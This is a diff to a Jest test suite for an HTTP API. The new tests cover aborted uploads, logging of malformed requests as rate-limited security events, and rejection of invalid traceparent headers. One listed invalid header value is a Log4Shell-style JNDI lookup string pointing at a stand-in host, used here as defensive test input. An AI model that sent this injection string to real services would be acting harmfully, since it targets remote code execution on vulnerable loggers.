@@ -1,4 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { once } from 'node:events';
+import { connect } from 'node:net';
+import { RATE_LIMITS } from '../src/http/rate-limit.js';
+import { exchange } from './support/raw-http.js';
 import { PATIENCE_MS, spawnApp, type SpawnedApp } from './support/spawned-app.js';
 import { SECURITY_HEADERS } from '../src/http/security-headers.js';
 
@@ -56,6 +60,57 @@ describe('an error that nobody expected', () => {
   });
 });
 
+describe('an upload that its client gives up', () => {
+  it('is no fault of ours, nor of the database', async () => {
+    const traceId = 'aaaaaaaabbbbbbbbccccccccdddddddd';
+    const { port, hostname } = new URL(app.url);
+    const socket = connect(Number(port), hostname).resume();
+    await once(socket, 'connect');
+    const head = [
+      'POST /v1/auth/login HTTP/1.1',
+      'Host: api',
+      'Content-Type: application/json',
+      'Content-Length: 50',
+      `Traceparent: 00-${traceId}-00f067aa0ba902b7-01`,
+    ];
+    socket.end(`${head.join('\r\n')}\r\n\r\n{"`);
+    await once(socket, 'close');
+    // Its answer reached nobody, so no line tells of it: one that comes later shows that all is written.
+    const { headers } = await app.client().get('/v1/health/live');
+    await app.logged((line) => line['requestId'] === headers.get('x-request-id'));
+    expect(app.logs().filter((line) => line['requestId'] === traceId)).toEqual([]);
+  });
+});
+
+describe('a message that is no HTTP', () => {
+  const send = async () => {
+    const [answer] = (await exchange(app.url, 'no HTTP\r\n\r\n')).answers;
+    return answer?.headers.get('x-request-id');
+  };
+
+  it('is a security event with its reason and its address', async () => {
+    const requestId = await send();
+    expect(await app.logged((line) => line['requestId'] === requestId)).toMatchObject({
+      level: 'warn',
+      event: 'input_validation_fail',
+      code: 'malformed_request',
+      ip: '127.0.0.1',
+    });
+  });
+
+  it('cannot fill the log: its events have a budget', async () => {
+    const events = () => app.logs().filter(({ event }) => event === 'input_validation_fail').length;
+    const { perIp } = RATE_LIMITS.public;
+    const start = performance.now();
+    for (let sent = 0; sent < 3 * perIp; sent += perIp / 10)
+      await Promise.all(Array.from({ length: perIp / 10 }, send));
+    const minutes = (performance.now() - start) / 60_000;
+    expect(events()).toBeGreaterThan(perIp / 2);
+    expect(events()).toBeLessThanOrEqual(perIp * (1 + minutes) + 1);
+    expect((await app.client().get('/v1/health/live')).status).toBe(200);
+  }, 60_000);
+});
+
 describe('traceparent', () => {
   const idFor = async (traceparent: string) => {
     const answer = await app.client().get('/v1/nowhere', { traceparent });
@@ -77,6 +132,7 @@ describe('traceparent', () => {
     `00-${TRACE_ID.toUpperCase()}-00f067aa0ba902b7-01`,
     `00-${'0'.repeat(32)}-00f067aa0ba902b7-01`,
     `00-${TRACE_ID}-${'0'.repeat(16)}-01`,
+    `ff-${TRACE_ID}-00f067aa0ba902b7-01`,
     `00-${'g'.repeat(32)}-00f067aa0ba902b7-01`,
     `00-${TRACE_ID}-00f067aa0ba902b7-01, 00-${TRACE_ID}-00f067aa0ba902b7-01`,
     '${jndi:ldap://evil.example/a}',
